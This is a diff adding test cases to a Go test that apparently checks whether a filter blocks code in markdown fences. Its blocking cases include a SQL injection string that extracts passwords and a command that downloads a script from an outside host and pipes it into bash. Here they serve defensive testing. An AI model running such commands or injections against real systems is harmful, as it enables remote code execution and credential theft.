@@ -31,6 +31,9 @@ func TestFencedMarkdownCode(t *testing.T) {
 		{"h1. Deploy\nRun the migration first, then restart the workers:\n{code:bash}\ncd /srv/app && ./manage.py migrate; systemctl restart app-worker\n{code}\nThat is all.", false},
 		{"Here is what I ran on the box yesterday [code=bash]cat /etc/os-release; uname -a[/code] and it printed nothing useful.", false},
 
+		// An excerpt cut mid-line inside a fence that named its language.
+		{"Every Linux user should know these:\n\n```bash\ncat /etc/os-release\ngrep -i error /var/log/syslog | tail -n 50\nls -la ~/.ssh/\nsudo systemctl re", false},
+
 		// What still blocks: code in the prose, SQL that breaks out of its
 		// quote or sits beside inline spans only, a closing tag of the
 		// quote, a lone command in a span, an unclosed fence, a fence and
@@ -43,6 +46,7 @@ func TestFencedMarkdownCode(t *testing.T) {
 		{"this is my favourite little number x' UNION SELECT `password` FROM users--", true},
 		{"look at this\n```\nx' UNION SELECT password FROM users--\n```\nok?", true},
 		{"Here's what I tried:\n```bash\n$(curl -s http://203.0.113.9/x | bash)\n", true},
+		{"Here's what I tried:\n```\n$(curl -s http://203.0.113.9/x | bash)", true},
 		{"```bash\n$(curl -s http://203.0.113.9/x | bash)\n```", true},
 	} {
 		for _, form := range []bool{false, true} {
